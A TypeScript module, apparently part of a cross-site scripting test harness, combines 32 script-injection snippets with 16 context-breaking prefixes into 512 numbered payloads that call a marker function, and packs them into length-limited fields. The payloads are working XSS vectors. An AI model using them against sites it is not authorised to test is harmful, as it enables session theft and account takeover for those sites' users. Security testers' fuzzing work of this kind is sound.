/** What runs a script where a page takes it for markup; `RUN` is the call that says so. */
const bodies = [
  '<svg onload=RUN>',
  '<img src=x onerror=RUN>',
  '<script>RUN</script>',
  '<details open ontoggle=RUN>',
  '<iframe srcdoc="<script>parent.RUN</script>">',
  '<iframe src="javascript:parent.RUN">',
  '<a href="javascript:RUN">a</a>',
  '<video><source onerror=RUN></video>',
  '<audio src=x onerror=RUN>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN>',
  '<marquee onstart=RUN>',
  '<object data="javascript:RUN">',
  '<embed src="javascript:RUN">',
  '<form><button formaction="javascript:RUN">a</button></form>',
  '<math><a xlink:href="javascript:RUN">a</a></math>',
  '<style onload=RUN></style>',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><script>RUN</script></svg>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<ImG/SrC=x/OnErRoR=RUN>',
  '<body onload=RUN>',
  '${RUN}',
  "{{constructor.constructor('RUN')()}}",
  'javascript:RUN',
  'data:text/html,<script>parent.RUN</script>',
  '&lt;img src=x onerror=RUN&gt;',
  '\\u003cimg src=x onerror=RUN\\u003e',
  '<div style="animation-name:x" onanimationstart=RUN>',
  '<p onmouseover=RUN>a</p>',
]
/** What leaves the place where the text stands. */
const openings = [
  '',
  '">',
  "'>",
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '-->',
  ']]>',
  '`>',
  '\\">',
  '"/>',
  '</svg>',
  '</a>',
  '</noscript>',
  '";RUN;//',
]

/** The payload of this number of 512, no longer than a field takes, where a short one must do. */
export function payload(number: number, max: number): string {
  const opening = openings[number % openings.length] ?? ''
  const body = bodies[Math.floor(number / openings.length) % bodies.length] ?? ''
  const run = `ran(${number})`
  const whole = `${opening}${body}`.replaceAll('RUN', run)
  const short = `<svg onload=${run}>`
  // Does not run by itself, but may not become an attribute either.
  return [whole, short].find(({ length }) => length <= max) ?? `<b onclick=${run}>`
}
export const payloadCount = bodies.length * openings.length

/** Payloads of these numbers in few texts: each goes into the first that has room for it. */
export function packed(numbers: readonly number[], max: number): string[] {
  const texts: string[] = []
  for (const number of numbers) {
    const next = payload(number, max)
    const at = texts.findIndex((text) => text.length + 1 + next.length <= max)
    if (at < 0) texts.push(next)
    else texts[at] = `${texts[at]} ${next}`
  }
  return texts
}
